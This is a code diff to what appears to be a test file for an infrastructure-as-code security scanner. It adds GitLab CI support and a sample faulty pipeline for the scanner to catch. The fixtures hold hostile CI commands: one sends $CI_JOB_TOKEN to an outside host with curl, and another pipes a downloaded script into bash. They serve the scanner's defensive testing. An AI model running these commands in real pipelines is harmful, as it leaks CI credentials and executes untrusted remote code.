@@ -16,6 +16,7 @@ FRAMEWORKS = {
     "terraform": (("infra/*.tf", "infra/*.tfvars", "infra/*.tpl", "infra/*.tftpl", "infra/*.json"), by_top),
     "dockerfile": (("Dockerfile", "Containerfile"), by_file),
     "github_actions": ((".github/*",), by_top),
+    "gitlab_ci": ((".gitlab-ci.yml", ".gitlab/ci/*.yml"), by_file),
 }
 FAULTS = {
     "terraform": ("infra/terraform/main.tf", 'resource "aws_s3_bucket" "one" {\n  bucket = "one"\n}\n', "CKV_AWS_18"),
@@ -24,6 +25,11 @@ FAULTS = {
         ".github/workflows/a.yml",
         "on: push\njobs:\n  a:\n    runs-on: ubuntu-24.04\n    steps:\n      - run: curl http://example.com | bash\n",
         "CKV2_GHA_1",
+    ),
+    "gitlab_ci": (
+        ".gitlab-ci.yml",
+        "a:\n  script:\n    - curl --data token=$CI_JOB_TOKEN https://example.com\n",
+        "CKV_GITLABCI_1",
     ),
 }
 MOST_SKIPPED = 0.03
